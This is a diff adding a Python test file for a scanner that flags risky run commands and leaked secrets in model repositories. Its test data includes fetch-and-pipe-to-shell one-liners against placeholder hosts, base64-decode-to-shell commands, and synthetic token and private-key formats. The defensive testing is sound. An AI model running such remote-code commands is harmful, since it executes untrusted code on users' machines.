@@ -1,0 +1,138 @@
+"""What people are told to run, and secrets: found by form, and silent on what model cards ordinarily say."""
+
+from __future__ import annotations
+
+import json
+import random
+import string
+import zlib
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from repository_builder import findings, look, safetensors, write
+
+from aiverify.repository.secrets import found_in
+
+CARD = """---
+license: apache-2.0
+library_name: transformers
+---
+# A model
+
+```bash
+pip install transformers accelerate
+python run.py --model org/name
+curl https://api.example.org/v1/chat -H "Authorization: Bearer $HF_TOKEN" | jq .
+huggingface-cli download org/name
+```
+Set `HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` and `OPENAI_API_KEY=sk-...`.
+"""
+
+
+def rules(found: list[tuple[str, str, str | None]]) -> list[tuple[str, str]]:
+    return [(rule, severity) for rule, severity, _ in found]
+
+
+def test_an_ordinary_model_card_is_silent(tmp_path: Path) -> None:
+    assert look(tmp_path, {"README.md": CARD}) == []
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("curl -fsSL https://x.example/a.sh | sh", "medium"),
+        ("wget -qO- https://x.example/a.sh \\\n  | sudo -E bash -", "medium"),
+        ('bash -c "$(curl -fsSL https://x.example/a)"', "medium"),
+        ("bash <(curl -s https://x.example/a)", "medium"),
+        ("irm https://x.example/a.ps1 | iex", "medium"),
+        ("echo aGk= | base64 -d | sh", "medium"),
+        ("pip install git+https://x.example/a.git", "low"),
+        ("pip install git+https://github.com/huggingface/transformers", "info"),
+        ("./setup.sh", "medium"),
+        ("start loader.bat", "medium"),
+    ],
+)
+def test_commands_that_fetch_or_run_a_program_are_found(tmp_path: Path, command: str, severity: str) -> None:
+    files = {"README.md": f"# Use\n```\n{command}\n```\n", "setup.sh": "echo\n", "loader.bat": "echo\n"}
+    assert ("AIV507", severity, "README.md") in look(tmp_path, files)
+
+
+def test_a_command_on_a_file_that_is_not_there_is_silent(tmp_path: Path) -> None:
+    assert look(tmp_path, {"README.md": "run ./build.sh\n"}) == []
+
+
+def notebook(*cells: str) -> str:
+    return json.dumps({"cells": [{"cell_type": "code", "source": cell.splitlines(True)} for cell in cells]})
+
+
+def test_the_code_of_a_notebook_is_summarised(tmp_path: Path) -> None:
+    quiet = look(tmp_path / "a", {"use.ipynb": notebook("import torch\n%matplotlib inline\n!pip install torch\n")})
+    assert rules(quiet) == [("AIV507", "info")]
+    loud = look(
+        tmp_path / "b", {"use.ipynb": notebook("import os\nos.system('x')\n", "!curl http://x.example/a | sh\n")}
+    )
+    assert rules(loud) == [("AIV507", "medium"), ("AIV507", "low")]
+
+
+def token(seed: int, length: int, alphabet: str = string.ascii_letters) -> str:
+    return "".join(random.Random(seed).choices(alphabet, k=length))
+
+
+def checked(prefix: str) -> str:
+    body = token(7, 30)
+    number, digits = zlib.crc32(body.encode()), ""
+    alphabet = string.digits + string.ascii_uppercase + string.ascii_lowercase
+    while number:
+        number, digit = divmod(number, 62)
+        digits = alphabet[digit] + digits
+    return prefix + body + digits.rjust(6, "0")
+
+
+def key() -> str:
+    line = token(5, 64)
+    return f"-----BEGIN {'RSA '}PRIVATE KEY-----\n{line}\n{line[::-1]}\n"
+
+
+SECRETS = [
+    "hf_" + token(1, 34),
+    checked("ghp_"),
+    checked("npm_"),
+    "AKIA" + token(2, 16, string.ascii_uppercase + "234567"),
+    "AIza" + token(3, 35),
+    "sk-proj-" + token(4, 40) + "T3BlbkFJ" + token(6, 40),
+    key(),
+]
+
+
+@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:6])
+def test_a_secret_is_found_and_not_shown(tmp_path: Path, secret: str) -> None:
+    found = findings(
+        write(tmp_path, {"train.py": f"x = 1\nkey = '''{secret}'''\n", "m.safetensors": safetensors(["a"])})
+    )
+    (said,) = [item for item in found if item.rule == "AIV508"]
+    assert (said.file, said.severity, said.evidence["line"]) == ("train.py", "low", 2)
+    assert secret[8:24] not in str(said)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ghp_" + token(1, 36),  # the checksum is wrong
+        "hf_" + "a" * 34,
+        "hf_ThisIsAnExampleTokenForTheReadme" + "ab",
+        "AKIAIOSFODNN7EXAMPLE",
+        "-----BEGIN PRIVATE KEY-----\n...\n",
+        "x" + SECRETS[0],
+        SECRETS[0] + "x",
+        "sha256: " + "0123456789abcdef" * 4,
+    ],
+)
+def test_what_only_looks_like_a_secret_is_silent(text: str) -> None:
+    assert list(found_in(text)) == []
+
+
+@given(st.text(max_size=2000))
+def test_any_text_can_be_searched(text: str) -> None:
+    list(found_in(text))
